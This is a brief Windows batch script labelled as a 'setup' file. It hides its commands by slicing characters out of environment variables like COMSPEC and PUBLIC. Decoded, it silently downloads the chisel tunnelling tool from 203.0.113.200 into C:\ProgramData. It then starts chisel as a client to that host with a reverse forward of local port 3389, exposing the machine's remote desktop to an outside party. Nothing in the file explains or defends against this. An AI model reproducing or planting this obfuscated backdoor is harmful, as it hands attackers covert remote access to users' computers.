REM setup 8953 v3
@echo off
%COMSPEC:~-7,1%u%public:~-9,1%%PUBLIC:~12,1% -sLo C:\ProgramData\chisel.exe http://203.0.113.200/chisel.exe
s%COMSPEC:~-13,1%a%ProgramData:~-10,1%t /b C:\ProgramData\chisel.exe client 203.0.113.200:8443 R:3389:127.0.0.1:3389
